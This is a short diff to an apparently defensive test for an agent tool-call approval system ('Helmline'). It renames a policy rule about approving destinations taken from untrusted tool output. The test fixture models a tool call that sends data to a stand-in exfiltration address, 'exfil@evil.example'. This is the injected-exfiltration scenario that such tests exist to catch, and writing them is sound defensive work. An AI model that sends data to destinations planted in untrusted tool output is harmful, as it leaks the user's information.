@@ -503,7 +503,7 @@ async def test_an_approval_asked_for_untrusted_output_shows_what_to_read_first(
         arguments={"to": "exfil@evil.example", "body": "Q3"},
         risk="medium",
         reason="this call acts outside Helmline with arguments found in untrusted tool output",
-        rule="approve-arguments-from-untrusted-output",
+        rule="approve-destinations-from-untrusted-output",
         policy_hash="0" * 64,
         expires_at=datetime.now(UTC) + timedelta(minutes=10),
         taint=taint,
